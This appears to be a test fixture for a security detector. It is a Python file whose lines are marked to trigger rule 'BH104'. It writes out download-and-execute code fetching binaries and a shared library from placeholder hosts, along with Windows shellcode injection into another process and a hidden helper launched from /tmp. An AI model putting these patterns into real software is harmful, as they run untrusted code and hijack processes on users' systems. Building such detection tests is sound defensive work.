# Download, then make executable or run. Inert: .invalid hosts, never executed.
import ctypes
import os
import subprocess
import tempfile
import urllib.request

import requests


def _fetch_tool():
    path = "/tmp/.cache-helper"
    urllib.request.urlretrieve("https://dl.example.invalid/helper.bin", path)  # expect: BH104
    os.chmod(path, 0o755)  # expect: BH104
    subprocess.Popen([path])  # expect: BH104


def _native():
    lib = os.path.join(tempfile.gettempdir(), "libfast.so")
    with open(lib, "wb") as f:
        f.write(requests.get("https://dl.example.invalid/libfast.so", timeout=10).content)  # expect: BH104
    return ctypes.CDLL(lib)  # expect: BH104


def _inject(pid, shellcode):
    kernel32 = ctypes.windll.kernel32
    h = kernel32.OpenProcess(0x1F0FFF, False, pid)
    addr = kernel32.VirtualAllocEx(h, 0, len(shellcode), 0x3000, 0x40)  # expect: BH104
    kernel32.WriteProcessMemory(h, addr, shellcode, len(shellcode), None)  # expect: BH104
    kernel32.CreateRemoteThread(h, None, 0, addr, None, 0, None)  # expect: BH104


def _helper():
    subprocess.call("/tmp/.x11-unix-helper --daemon")  # expect: BH104
